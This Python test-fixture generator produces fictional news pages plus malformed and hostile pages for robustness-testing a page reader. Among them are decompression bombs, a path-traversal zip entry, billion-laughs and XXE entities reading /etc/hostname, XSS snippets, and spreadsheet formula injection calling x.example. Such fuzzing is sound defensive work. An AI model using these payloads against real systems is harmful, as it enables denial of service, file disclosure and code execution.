"""Pages made to break a reader, kind by kind, and good pages to stand among them. All is invented; nothing is fetched or fetches."""

from __future__ import annotations

import gzip
import io
import json
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from random import Random

Made = tuple[str, bytes]
"""How the file's name ends, and what is in it."""
Kind = Callable[[Random], Made]

_TOWNS = ("Vesk", "Ormund", "Tarn", "Kelda", "Brisa", "Holm", "Lodra", "Senna")
_PEOPLE = ("Ada Brandt", "Piet Sorel", "Mara Voss", "Jon Adeyemi", "Lena Okafor", "Tomas Reyl")
_LARGE = 4_000_000


def good_pages(count: int, seed: int = 7) -> Iterator[Made]:
    """Makes short news pages, no two alike, as text and as HTML in turn."""
    dice = Random(seed)
    for number in range(count):
        town, other = dice.sample(_TOWNS, 2)
        head = f"Shelling near {town} kills {number + 3}, hospital says"
        prose = (
            f"Shelling near the town of {town} killed {number + 3} people on {dice.randint(1, 28)} March 2021, the {town} Hospital Union said.",
            f'"We will return to the talks in {other} on Friday," the mayor, {dice.choice(_PEOPLE)}, said after {dice.randint(2, 9)} hours of talks.',
            f"Norland denied that its army had fired. Sudmark asked for a meeting in {other} and accused Norland of breaking truce {number}.",
        )
        if number % 2:
            yield f"good{number}.txt", "\n\n".join((head, *prose, "")).encode()
        else:
            body = "".join(f"<p>{paragraph}</p>" for paragraph in prose)
            html = (
                f"<html><head><title>{head}</title></head><body><nav><a href='/'>Home</a></nav><article><h1>{head}</h1>{body}</article></body></html>"
            )
            yield f"good{number}.html", html.encode()


def hostile_pages(count: int, seed: int = 11) -> Iterator[Made]:
    """Makes hostile pages, the kinds in turn."""
    dice = Random(seed)
    for number in range(count):
        ending, data = KINDS[number % len(KINDS)](dice)
        yield f"bad{number}{ending}", data


def write_all(pages: Iterator[Made], folder: Path) -> list[Path]:
    """Writes each page to a file; returns their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, data in pages:
        paths.append(folder / name)
        paths[-1].write_bytes(data)
    return paths


def _prose(dice: Random) -> str:
    town, person = dice.choice(_TOWNS), dice.choice(_PEOPLE)
    return f"Ministers of Norland met in {town} on Monday, {person} said. At least {dice.randint(2, 90)} people were killed."


def _html(inside: str, head: str = "") -> Made:
    return ".html", f"<html><head>{head}</head><body>{inside}</body></html>".encode("utf-8", "surrogatepass")


def _text(text: str) -> Made:
    return ".txt", text.encode("utf-8", "surrogatepass")


def truncated(dice: Random) -> Made:
    data = _html(f"<article><p>{_prose(dice)}</p><p>“{_prose(dice)}”&nbsp;<a href='x'>é</a></p></article>")[1]
    return ".html", data[: dice.randint(1, len(data))]


def gzip_bomb(dice: Random) -> Made:
    return dice.choice((".txt.gz", ".jsonl.gz", ".xml.gz", ".html.gz")), gzip.compress(b"a" * 30_000_000, 1)


def zip_bomb(dice: Random) -> Made:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("../../a.txt", b"b" * 25_000_000)
        archive.writestr("b.zip", sink.getvalue())
        archive.writestr("c.jsonl", b'{"id": ' * dice.randint(1, 5000))
    return ".zip", sink.getvalue()[: dice.choice((None, -20))]


def lying_charset(dice: Random) -> Made:
    said, real = dice.choice(
        (("utf-16", "utf-8"), ("utf-8", "koi8-r"), ("utf-7", "cp1252"), ("hex", "utf-8"), ("ascii", "shift_jis"), ("utf-8", "utf-32-le"))
    )
    return ".html", f"<meta charset='{said}'><p>{_prose(dice)} Переговоры, “naïve” — ベスク.</p>".encode(real, "replace")


def deep(dice: Random) -> Made:
    tag = dice.choice(("div", "span", "b", "svg", "table><tr><td", "ul><li", "blockquote", "font"))
    return _html(f"<{tag}>" * dice.choice((100, 590, 3000, 40_000)) + _prose(dice))


def long_line(dice: Random) -> Made:
    return _text(dice.choice(("x", "ab ", "é", "1,", "“", ". ", "-", "https://x.example/")) * dice.choice((3000, 20_000, 200_000)))


def turned(dice: Random) -> Made:
    marks = "\u202e\u202d\u2066\u2069\u200b\u200f\u00ad\ufeff\u0301\u2028\u0085"
    return _text("\n\n".join("".join(letter + dice.choice(("", "", dice.choice(marks))) for letter in _prose(dice)) for _ in range(4)))


def nuls(dice: Random) -> Made:
    return dice.choice((".txt", ".html", ".jsonl")), _prose(dice).replace(" ", dice.choice(("\0", " \0", "\0\0"))).encode()


def scripts(dice: Random) -> Made:
    return _html(f"<script>document.write('{_prose(dice)}')</script><p onclick=alert(1)>{_prose(dice)}<img src=x onerror=alert(1)></p><script>" * 5)


def huge_title(dice: Random) -> Made:
    title = ("<script>alert(1)</script> " + _prose(dice) + " | ") * dice.choice((100, 100_000))
    return _html(f"<h1>{title[:100_000]}</h1><p>{_prose(dice)}</p>" * 2, f"<title>{title[:10_000_000]}</title>")


def broken_lines(dice: Random) -> Made:
    good = json.dumps({"id": "x", "text": _prose(dice)})
    bad = (
        "{oops",
        "[" * 100_000,
        '{"id": NaN}',
        '{"id": "a", "text": 5}',
        "\x00",
        good[:-4],
        '{"id":"s","text":"\\ud800 said"}',
        '{"a":' * 2000,
        "1e999",
        '""',
    )
    return ".jsonl", "\n".join(dice.sample(bad, 6)).encode()


def looping_feed(dice: Random) -> Made:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "ha"}">' for n in range(12))
    outside = '<!ENTITY f SYSTEM "file:///etc/hostname"><!ENTITY g SYSTEM "http://x.example/">'
    item = f"<item><link>self.xml</link><title>&e11;</title><description>&f;&g;&e{dice.randint(0, 11)}; {_prose(dice)}</description>"
    return ".xml", f"<!DOCTYPE r [{entities}{outside}]><rss><channel>{item * dice.choice((1, 300))}</channel></rss>".encode()


def crowded(dice: Random) -> Made:
    pairs = " ".join(f"a{n}='x'" for n in range(dice.choice((500, 30_000))))
    return _html(f"<p {pairs}>{_prose(dice)}</p><p {'<' * 2000}>")


def many_tags(dice: Random) -> Made:
    return _html(dice.choice(("<br>", "<p>a", "<td>1", "<a href=x>y</a>", "<li>")) * dice.choice((5000, 160_000)) + _prose(dice))


def many_lines(dice: Random) -> Made:
    return _text("\n".join(f"{_prose(dice)} {n}" if n % 50 == 0 else "Home" for n in range(dice.choice((900, 25_000)))))


def noise(dice: Random) -> Made:
    return dice.choice((".txt", ".html", ".jsonl", ".xml", ".warc", ".warc.gz", ".zip", ".txt.gz")), dice.randbytes(dice.randint(0, 5000))


def other_files(dice: Random) -> Made:
    head = dice.choice((b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"PK\x03\x04", b"\x7fELF", b"RIFF", b"GIF89a"))
    return dice.choice((".html", ".txt")), head + dice.randbytes(400)


def lying_warc(dice: Random) -> Made:
    body = dice.choice(
        (gzip.compress(b"z" * 25_000_000, 1), b"fffffffe\r\nhello\r\n", _prose(dice).encode(), b"\x28\xb5\x2f\xfd" + dice.randbytes(60))
    )
    coding = dice.choice((b"Content-Encoding: gzip", b"Transfer-Encoding: chunked", b"Content-Encoding: zstd", b"X: y"))
    http = b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=x\r\n" + coding + b"\r\n\r\n" + body
    length = dice.choice((len(http), len(http) + 900, 5, 10**15))
    record = b"WARC/1.0\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:uuid:1>\r\nWARC-Date: 9999-99-99\r\nContent-Type: application/http\r\n"
    return ".warc", (record + b"Content-Length: %d\r\n\r\n" % length + http + b"\r\n\r\n") * 2


def unclosed(dice: Random) -> Made:
    return _html(
        f"<p>{_prose(dice)}"
        + dice.choice(("<!-- ", "<a href='", "<![CDATA[", "<textarea>", "<title>", "<plaintext>", "<select><option>"))
        + _prose(dice) * 50
    )


def stacked_marks(dice: Random) -> Made:
    return _text("\n\n".join("".join(letter + "\u0301\u0323\u20dd" * dice.choice((0, 1, 40)) for letter in _prose(dice)) for _ in range(3)))


def absurd_days(dice: Random) -> Made:
    days = (
        "31 February 0000",
        "99/99/9999",
        "29 February 1900",
        "9999-12-31",
        "00:00 p.m. on the 45th",
        "a trillion years ago",
        "1 January 10000",
        "week 99",
    )
    text = " ".join(f"It happened on {dice.choice(days)}, {dice.choice(days)} later." for _ in range(60))
    return _html(f"<p>{text}</p>", f"<meta property='article:published_time' content='{dice.choice(days)}'>")


def absurd_numbers(dice: Random) -> Made:
    amounts = (
        "9" * 400,
        "1,1,1,1,1",
        "5-2",
        "²³",
        "-40",
        "0",
        "1.2.3.4",
        "ten dozen million billion",
        "between 9 and 3",
        "٣٤",
        "1e400",
        "half a half",
        "NaN",
    )
    return _text(
        "\n\n".join(f"At least {dice.choice(amounts)} people were killed and {dice.choice(amounts)} injured, {_prose(dice)}" for _ in range(12))
    )


def unbalanced(dice: Random) -> Made:
    marks = "“”‘’\"'«»([{<"
    return _text(
        "\n\n".join("".join(dice.choice(marks) if dice.random() < 0.3 else letter for letter in _prose(dice)) for _ in range(6)) + "“" * 2000
    )


def crowd_of_names(dice: Random) -> Made:
    names = ", ".join(f"{dice.choice(_PEOPLE)} of {dice.choice(_TOWNS)}{n}" for n in range(300))
    return _text(f"{_prose(dice)}\n\nThe dead are {names} and Piet, who said that Ada said that Mara said that Jon denied that he said it.")


def bait(dice: Random) -> Made:
    """What makes careless patterns run for ever."""
    unit = dice.choice(("a", " ", "\t", "((", ",,", "1,", "1 ", "- ", "a.", "A. ", "' ", "\u00a0", "of the ", "said ", "and ", "killed "))
    return _text(f"{_prose(dice)}\n\n{unit * 4000}!\n\n{unit * 50}\n\n{_prose(dice)}")


def bad_data(dice: Random) -> Made:
    body = dice.choice(
        (
            "[" * 20_000,
            '{"@graph": ' * 2000,
            '{"@type": "NewsArticle", "headline": {"a": 1}, "author": 5, "datePublished": ["x"], "articleBody": 7}',
            "NaN",
        )
    )
    return _html(f"<p>{_prose(dice)}</p>" * 3, f"<script type='application/ld+json'>{body}</script><meta name=author content='{'A' * 5000}'>")


def foreign_markup(dice: Random) -> Made:
    return _html(
        f"<svg><math><mi><p>{_prose(dice)}</p></mi></math><foreignObject></svg><template><p>{_prose(dice)}</p></template><frameset><p\x01>{_prose(dice)}"
    )


def pictures(dice: Random) -> Made:
    return _text(" ".join(dice.choice(("😀", "🇺🇳", "\ue000", "\ufdd0", "\U0010ffff", "👩‍👩‍👧", "ﷺ")) for _ in range(400)))


def formulas(dice: Random) -> Made:
    return _html(f"<h1>=HYPERLINK(\"http://x.example/\"&A1)</h1><p>+1+cmd|' /C calc'!A0 @SUM(1) </p><p>{_prose(dice)}</p>", "<title>=1+1</title>")


def outside_entities(dice: Random) -> Made:
    return ".html", f'<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/hostname">]><base href="http://x.example/"><p>&x; {_prose(dice)}</p>'.encode()


def large_prose(dice: Random) -> Made:
    """Mostly small; one in eight has millions of characters, more than a page may show."""
    return _text((_prose(dice) + " ") * (_LARGE // 80 if dice.random() < 0.125 else 60))


KINDS: tuple[Kind, ...] = (
    truncated, gzip_bomb, zip_bomb, lying_charset, deep, long_line, turned, nuls, scripts, huge_title, broken_lines, looping_feed, crowded,
    many_tags,
    many_lines, noise, other_files, lying_warc, unclosed, stacked_marks, absurd_days, absurd_numbers, unbalanced, crowd_of_names, bait, bad_data,
    foreign_markup, pictures, formulas, outside_entities, large_prose,
)  # fmt: skip
